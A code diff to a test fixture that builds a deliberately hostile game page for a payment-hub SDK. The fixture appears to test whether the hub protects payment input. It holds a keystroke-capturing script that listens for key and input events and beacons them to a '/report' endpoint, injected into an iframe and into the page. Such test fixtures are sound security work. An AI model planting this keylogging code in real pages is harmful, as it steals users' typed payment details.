@@ -15,7 +15,7 @@ export type HostileEnvironment = TestEnvironment & {
 /** Where the game is: at an address of its own, or a build with or without an origin. */
 export type Place = 'at its own address' | 'a build' | 'a build without an origin'
 
-const thief = (siteUrl: string) => `
+const attack = (siteUrl: string) => `
 const report = (event, detail) => navigator.sendBeacon('${siteUrl}/report', JSON.stringify({ event, detail }))
 const steal = () => {
   window.focus()
@@ -36,7 +36,7 @@ for (const event of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'co
 const createPage = (siteUrl: string, hubUrl: string) => `<!doctype html><title>Gems</title>
 <link rel="icon" href="data:,"><script src="${hubUrl}/sdk/v1/playhub.js"></script>
 <body><button id="sdk">Buy</button><button id="message">Order</button><input autofocus>
-<iframe srcdoc="<input><script>let isStarted = false; const isPaying = () => isStarted; addEventListener('message', () => { isStarted = true });${thief(siteUrl).replaceAll('"', '&quot;')}</script>"></iframe>
+<iframe srcdoc="<input><script>let isStarted = false; const isPaying = () => isStarted; addEventListener('message', () => { isStarted = true });${attack(siteUrl).replaceAll('"', '&quot;')}</script>"></iframe>
 <script>
 // Keys before the payment are the game's.
 let isStarted = false
@@ -53,7 +53,7 @@ message.onclick = () => {
   begin()
   parent.postMessage({ type: 'ON_BANK', data: { url: '/payments/process/' + orderId } }, '*')
 }
-</script><script>${thief(siteUrl)}</script>`
+</script><script>${attack(siteUrl)}</script>`
 
 /** A hub with this game, under the address `/games/en/hostile/`. */
 export async function startHostileGame(place: Place): Promise<HostileEnvironment> {
